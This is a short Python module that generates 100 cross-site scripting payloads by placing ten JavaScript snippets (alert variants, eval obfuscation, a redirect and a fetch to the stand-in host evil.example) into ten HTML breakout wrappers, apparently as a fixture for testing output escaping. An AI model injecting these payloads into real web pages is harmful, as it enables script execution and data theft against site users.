"""A hundred texts that would run in a page that did not escape them."""

RUN = (
    *("alert(1)", "alert`1`", "self['ale'+'rt'](1)", "eval('al'+'ert(1)')", "top.alert(1)"),
    *("location='//evil.example'", "fetch('//evil.example')", "document.title=1", "setTimeout(alert)", "open()"),
)
WRAPPED = (
    "<script>{}</script>",
    "\"><img src=x onerror={}>",
    "'><svg onload={}>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "{{{{ {} }}}} {{% {} %}}",
    "<a href=\"javascript:{}\">x</a>",
    "--><body onload={}>",
    "\" autofocus onfocus={} x=\"",
    "<math><mtext><table><mglyph><style><img src onerror={}>",
)  # fmt: skip

PAYLOADS = tuple(wrapped.format(run, run) for wrapped in WRAPPED for run in RUN)
assert len(PAYLOADS) == 100
